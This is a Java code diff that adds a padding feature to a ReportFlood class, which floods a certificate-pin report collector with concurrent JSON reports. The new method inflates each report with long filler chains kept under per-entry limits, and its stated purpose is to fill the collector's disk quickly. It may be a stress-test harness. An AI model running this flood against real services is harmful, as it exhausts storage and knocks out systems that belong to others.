@@ -25,6 +25,7 @@ public final class ReportFlood implements AutoCloseable {
     private final long deadline;
     private volatile boolean running = true;
     private volatile boolean paused;
+    private volatile String padding = "";
 
     public ReportFlood(URI target, String suffix, int clients, Duration maxDuration) {
         this.target = target;
@@ -36,6 +37,19 @@ public final class ReportFlood implements AutoCloseable {
             t.setDaemon(true);
             threads.add(t);
         }
+    }
+
+    /**
+     * Makes every report about {@code bytes} larger (a long served chain of unreadable entries, each within
+     * the collector's limit per entry): to fill a disk fast.
+     */
+    public ReportFlood withPadding(int bytes) {
+        List<String> entries = new ArrayList<>();
+        for (int left = bytes; left > 0; left -= 30_000) {
+            entries.add("\"" + "A".repeat(Math.min(left, 30_000)) + "\"");
+        }
+        padding = String.join(",", entries);
+        return this;
     }
 
     public ReportFlood start() {
@@ -56,7 +70,7 @@ public final class ReportFlood implements AutoCloseable {
             }
             String host = "c" + client + "-" + seq + "." + suffix;
             String body = "{\"hostname\":\"" + host + "\",\"port\":443,\"known-pins\":[],"
-                    + "\"served-certificate-chain\":[],\"validated-certificate-chain\":[]}";
+                    + "\"served-certificate-chain\":[" + padding + "],\"validated-certificate-chain\":[]}";
             try {
                 HttpResponse<Void> response = http.send(HttpRequest.newBuilder(target).timeout(Duration.ofSeconds(15))
                         .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString(body)).build(),
